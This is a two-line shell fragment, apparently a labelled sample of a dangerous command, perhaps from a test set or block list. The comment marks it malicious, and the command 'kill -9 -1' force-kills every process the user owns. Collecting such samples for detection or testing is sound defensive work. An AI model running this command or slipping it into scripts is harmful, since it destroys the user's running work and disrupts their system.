# malicious: kills everything of this user
kill -9 -1
